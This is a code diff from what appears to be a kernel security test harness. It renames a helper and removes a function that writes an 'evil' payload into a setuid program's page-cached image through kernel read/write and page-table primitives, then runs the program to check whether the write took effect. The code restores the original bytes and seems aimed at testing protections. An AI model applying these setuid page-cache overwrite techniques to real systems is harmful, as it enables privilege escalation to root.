@@ -146,7 +146,7 @@ int setuid_run(const char *name)
 	return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
 }
 
-static enum outcome judge_program(int err)
+enum outcome setuid_program_judge(int err)
 {
 	struct stat stat;
 	int status = setuid_run(PROGRAM);
@@ -172,7 +172,7 @@ enum outcome setuid_program_overwrite(volatile char *file)
 {
 	make_program((char *)file, evil, sizeof(evil));
 	munmap((char *)file, PAGE_SIZE);
-	return judge_program(0);
+	return setuid_program_judge(0);
 }
 
 /* Page tables never lie to fork() for long: map, write, unmap, then run. */
@@ -199,25 +199,5 @@ enum outcome setuid_page_cache(void)
 		return broken("cannot map %s", PROGRAM);
 	if (kwalk((uint64_t)file, LEAF, 0, &slot))
 		return broken("no page-table entry found");
-	return judge_program(overwrite_page_cache(slot.phys));
-}
-
-/* Page tables and keys have nothing to do with it: the kernel's own mapping is writable. */
-enum outcome page_cache_store(void)
-{
-	volatile char *file = setuid_program_map(0);
-	char old[sizeof(evil)];
-	enum outcome outcome;
-	struct slot slot;
-	uint64_t entry;
-	int err;
-
-	if (!file || kwalk((uint64_t)file, LEAF, 0, &slot))
-		return broken("cannot map %s, or no page found", PROGRAM);
-	entry = slot.alias + (SETUID_ENTRY - LOAD_ADDRESS);
-	kread(entry, old, sizeof(old));
-	err = kwrite(entry, evil, sizeof(evil));
-	outcome = judge_program(err);
-	kwrite(entry, old, sizeof(old));
-	return outcome;
+	return setuid_program_judge(overwrite_page_cache(slot.phys));
 }
